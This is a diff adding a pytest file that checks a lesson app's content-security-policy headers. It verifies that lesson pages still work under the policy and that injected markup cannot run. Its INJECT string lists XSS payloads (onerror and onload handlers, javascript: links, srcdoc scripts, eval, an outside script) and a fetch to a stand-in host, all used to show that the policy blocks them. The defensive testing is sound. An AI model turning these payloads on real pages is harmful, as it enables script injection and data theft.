@@ -1,0 +1,192 @@
+"""The content-security policy: tight, every page works under it, and what is typed cannot run."""
+
+from __future__ import annotations
+
+import http.client
+import re
+from urllib.parse import urlsplit
+
+import numpy as np
+import pytest
+from lesson_page import watched
+
+from benchmarks.browser import serve
+from seqviz import catalog
+from seqviz.ui import bertviz_page
+from seqviz.ui.server import policy
+
+# What the policy forbade, in the page and in the frames that inherit its policy.
+WATCH = """
+addEventListener("securitypolicyviolation", (event) =>
+  console.error(`policy: ${event.effectiveDirective} ${event.blockedURI} ${event.sample}`));
+"""
+each_lesson = pytest.mark.parametrize("record", catalog.LESSONS, ids=lambda record: record.slug)
+
+
+@pytest.fixture(scope="module")
+def server(browser):
+    with serve(environment={"HF_HUB_OFFLINE": "1"}) as running:
+        yield running
+
+
+@pytest.fixture
+def visit(browser, server):
+    """As in the browser tests: fails on a request to another host and on an error in the console.
+
+    Chromium logs each violation of the policy as such an error.
+    """
+
+    def patient(*arguments, **options):
+        lesson = open_page(*arguments, **options)
+        lesson.page.context.set_default_timeout(60_000)  # the first visitor pays for the imports
+        return lesson
+
+    with watched(browser, server) as open_page:
+        yield patient
+
+
+def headers(server, path: str = "/") -> dict[str, str]:
+    connection = http.client.HTTPConnection(urlsplit(server.url).netloc, timeout=10)
+    connection.request("GET", path)
+    found = {name.lower(): value for name, value in connection.getresponse().getheaders()}
+    connection.close()
+    return found
+
+
+def rules(server) -> dict[str, list[str]]:
+    parts = headers(server)["content-security-policy"].split("; ")
+    return {name: sources for name, *sources in map(str.split, parts)}
+
+
+@pytest.mark.parametrize(
+    "path",
+    ["/", "/gates", "/_stcore/health", "/app/static/d3.min.js", "/metrics", "/media/none.html"],
+)
+def test_every_answer_has_the_headers(server, path):
+    found = headers(server, path)
+    assert "script-src 'self'" in found["content-security-policy"]
+    assert found["x-content-type-options"] == "nosniff"
+    assert found["referrer-policy"] == "strict-origin-when-cross-origin"
+    assert "camera=()" in found["permissions-policy"]
+
+
+def test_no_other_host_and_nothing_unsafe_but_styles(server):
+    found = rules(server)
+    for name, sources in found.items():
+        for source in sources:
+            own = re.fullmatch(r"'(self|none|sha256-[\w+/]+=*)'|blob:|data:", source)
+            style = (name, source) == ("style-src", "'unsafe-inline'")
+            frame = (name, source) == ("frame-ancestors", "*")
+            assert own or style or frame, (name, source)
+    assert found["default-src"] == found["script-src-attr"] == ["'none'"]
+    assert not {"object-src", "frame-src", "worker-src"} & set(found)  # as by default
+
+
+@each_lesson
+def test_a_lesson_works_under_the_policy(visit, record):
+    """All its tabs and benches, and what opens from the first one; see also `tests/browser`."""
+    lesson = visit(record.slug)
+    page = lesson.page
+    first = f"{record.code}.{record.first[0]}"
+    if page.get_by_role("tab").count() == 0:
+        lesson.chart(first).wait_for()
+    for tab in page.get_by_role("tab").all():
+        tab.click()
+        lesson.rest()
+        for bench in page.locator("[class*=st-key-bench-]:visible").all():
+            bench.scroll_into_view_if_needed()
+    assert page.locator("[data-testid=stAlertContentError]").count() == 0
+
+
+@pytest.fixture
+def open_attention(visit, minilm_on_disk):
+    def open_page(picture: str):
+        found = visit("attention", {"at.real.view": "head", "at.bertviz.picture": picture})
+        frame = found.by_key("bench-bertviz").locator("iframe").element_handle().content_frame()
+        return found, frame
+
+    return open_page
+
+
+@pytest.mark.parametrize("picture", ["head", "model"])
+def test_bertviz_draws_in_its_frame_which_inherits_the_policy(open_attention, picture):
+    _, frame = open_attention(picture)
+    frame.locator("svg text").first.wait_for()
+    assert frame.locator("svg text").count() > 5
+
+
+def test_the_digests_are_those_of_bertviz_pages():
+    weights = np.full((2, 2, 3, 3), 1 / 3, np.float32)
+    for view in bertviz_page.VIEWS:
+        html = bertviz_page.page(view, weights, ("a", "b", "c")).html
+        found = policy.inline_scripts(html)
+        assert len(found) == (3 if view == "model" else 2)  # the data are in none of them
+        assert {policy.digest(text) for text in found} <= set(
+            re.findall(r"'sha256-[^']+'", policy.policy("*"))
+        )
+
+
+# Everything that a text which got into the page as markup could try; true if any of it ran.
+INJECT = """async () => {
+  window.hacked = false;
+  // Until here the debugger, which may do anything, is at work; from here on it is the page.
+  await new Promise((resolve) => setTimeout(resolve, 0));
+  const place = document.createElement("div");
+  place.innerHTML = `<img src="data:," onerror="window.hacked = true">
+    <svg onload="window.hacked = true"></svg><a href="javascript:window.hacked = true">a</a>
+    <iframe srcdoc="<script>parent.hacked = true</` + `script>"></iframe>`;
+  document.body.append(place);
+  place.querySelector("a").click();
+  const script = document.createElement("script");
+  script.textContent = "window.hacked = true";
+  document.body.append(script);
+  try { new Function("window.hacked = true")(); } catch {}
+  try { eval("window.hacked = true"); } catch {}
+  const other = document.createElement("script");
+  other.src = "OTHER/app/static/hack.js";
+  document.body.append(other);
+  await new Promise((resolve) => setTimeout(resolve, 300));
+  const ran = window.hacked;
+  place.remove();
+  return ran;
+}"""
+
+
+def test_markup_that_got_into_a_page_cannot_run_or_ask_another_host(browser, server):
+    context = browser.new_context(locale="en-US")
+    context.add_init_script(WATCH)
+    page = context.new_page()
+    said = []
+    page.on("console", lambda message: said.append(message.text))
+    asked = []
+    page.on("request", lambda request: asked.append(request.url))
+    page.goto(server.url)
+    page.locator("h1").wait_for()
+    assert page.evaluate(INJECT.replace("OTHER", "http://192.0.2.1")) is False
+    told = page.evaluate(
+        """async () => {
+            const told = await fetch("http://192.0.2.1/?text").then(() => "sent", () => "not sent");
+            await new Promise((resolve) => setTimeout(resolve, 300));  // the report comes later
+            return told;
+        }"""
+    )
+    assert told == "not sent"
+    violated = {text.split()[1] for text in said if text.startswith("policy: ")}
+    assert {"script-src-attr", "script-src-elem", "script-src", "connect-src"} <= violated
+    # Without the policy all of these run: the test can fail.
+    bare = browser.new_context().new_page()
+    bare.goto("about:blank")
+    assert bare.evaluate(INJECT.replace("OTHER", "http://127.0.0.1:9")) is True
+    assert not [url for url in asked if "192.0.2.1" in url and not blocked(said, url)]
+    context.close()
+
+
+def blocked(said: list[str], url: str) -> bool:
+    """Whether the console says that this address was refused before anything was sent."""
+    return any(text.startswith("policy: ") and url.split("?")[0] in text for text in said)
+
+
+def test_a_site_that_may_show_the_app_is_a_setting():
+    assert policy.policy("'self' https://school.example").endswith(
+        "frame-ancestors 'self' https://school.example"
+    )
